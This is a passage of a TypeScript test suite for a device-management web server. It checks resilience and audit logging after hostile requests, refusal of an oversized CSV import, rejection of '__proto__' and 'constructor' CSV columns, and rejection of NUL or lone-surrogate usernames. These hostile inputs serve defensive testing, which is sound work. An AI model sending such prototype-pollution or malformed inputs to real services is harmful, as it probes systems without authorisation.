        everything.filter((what) => !covered.has(what)),
        'routes and events no case reached',
      ).toEqual([]);
    }

    // Still up: health answers, a sign-in works, and both feeds serve.
    const health = await fetch(`${server.url}/api/health`);
    expect(health.status).toBe(200);
    const ops = openOps();
    expect(await whenConnected(ops)).toBe('connected');
    expect(await stillServes(ops)).toBeNull();
    ops.close();
    const wall = openWall();
    expect(await whenConnected(wall)).toBe('connected');
    wall.close();

    // Nothing changed: the inventory, users, displays and the rest as they were; the only audit rows are
    // one per refused sign-in (a wrong password or a throttled address is audited, as issue 12 asks).
    const after = await dump(db);
    for (const table of COMPARED_TABLES) {
      expect(after.tables[table], `table ${table}`).toBe(before.tables[table]);
    }
    const added = await db.query<{ action: string; outcome: string }>(
      'SELECT action, outcome FROM audit_log WHERE id > $1 ORDER BY id',
      [before.auditLastId],
    );
    const unexpected = added.rows.filter(
      (r) => !(r.action === 'auth.sign-in' && ['failed', 'refused'].includes(r.outcome)),
    );
    expect(unexpected, 'audit rows written by hostile requests').toEqual([]);
    expect(added.rows.length).toBe(refusedSignIns);
    expect(after.auditCount).toBe(before.auditCount + refusedSignIns);
    // And the admin's password still works (no hostile call changed it).
    expect(await signIn(server.url, 'admin', ADMIN_PASSWORD)).toMatch(/^wsnoc_session=/);
  }, 180_000);

  it('reads a 19 MB CSV import without stalling other requests, and refuses it with a code', async () => {
    // More lines than an import takes, 19 MB of them: once parsed in one go, which held every other
    // request (and the live feed) for about two seconds.
    const line = 'bulk-xxxxxxxxxxxxxxxxxxxx,cpe,127.99.99.99,23,admin,password-padding-padding\n';
    const csv = Buffer.from(
      `name,role,host,port,username,password\n${line.repeat(Math.ceil((19 * 1024 * 1024) / line.length))}`,
    );
    const before = await dump(db);
    let importing = true;
    let slowestHealthMs = 0;
    const probe = (async () => {
      while (importing) {
        const t0 = performance.now();
        await (await fetch(`${server.url}/api/health`)).arrayBuffer();
        slowestHealthMs = Math.max(slowestHealthMs, performance.now() - t0);
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
    })();
    const delay = monitorEventLoopDelay({ resolution: 10 });
    delay.enable();
    const response = await fetch(`${server.url}/api/devices/import`, {
      method: 'POST',
      headers: { cookie, 'content-type': 'text/csv' },
      body: csv,
    });
    const text = await response.text();
    delay.disable();
    importing = false;
    await probe;
    console.log(
      `19 MB import: ${response.status}; slowest health answer meanwhile ${slowestHealthMs.toFixed(0)} ms, longest event-loop delay ${(delay.max / 1e6).toFixed(0)} ms`,
    );
    expect(response.status, text.slice(0, 300)).toBe(400);
    const body = JSON.parse(text) as { code?: string; message?: string };
    expect(body.code).toBe('devices.invalid-csv');
    expect(body.message).toMatch(/more than 20000 lines/);
    // Read in one go it held the loop for about 2 s (unloaded); in slices the longest stall is the body's
    // decoding, about 100 ms. The bounds leave room for a machine busy with other work.
    expect(delay.max / 1e6, 'the longest event-loop delay during the import, in ms').toBeLessThan(750);
    expect(slowestHealthMs, 'the slowest health answer during the import, in ms').toBeLessThan(1_500);
    expect(await dump(db)).toEqual(before);
  }, 60_000);

  it('refuses a CSV whose header names constructor or a column twice, naming them, and imports nothing', async () => {
    const before = await dump(db);
    for (const [header, named] of [
      ['name,role,host,port,username,password,constructor', /unknown CSV columns: "constructor"/],
      ['name,role,host,port,username,password,__proto__', /unknown CSV columns: "__proto__"/],
      ['name,role,host,port,username,password,name', /more than once: "name"/],
    ] as const) {
      const response = await fetch(`${server.url}/api/devices/import`, {
        method: 'POST',
        headers: { cookie, 'content-type': 'text/csv' },
        body: `${header}\ncsv-evil,cpe,127.9.9.9,23,admin,pw,x\n`,
      });
      const body = (await response.json()) as { code?: string; message?: string };
      expect(response.status, header).toBe(400);
      expect(body.code).toBe('devices.invalid-csv');
      expect(body.message).toMatch(named);
    }
    expect(await dump(db)).toEqual(before);
  });

  it('answers a sign-in with a lone surrogate or a NUL in the username with 400, naming the field', async () => {
    for (const username of ['\ud800', 'adm\udc00in', 'admin\u0000']) {
      const response = await fetch(`${server.url}/api/auth/login`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ username, password: 'whatever-it-is' }),
      });
      const body = (await response.json()) as { code?: string; message?: string };
      expect(response.status, JSON.stringify(body)).toBe(400);
      expect(body.code).toBe('request.invalid');
      expect(body.message).toMatch(/^username: /);
    }
  });
});
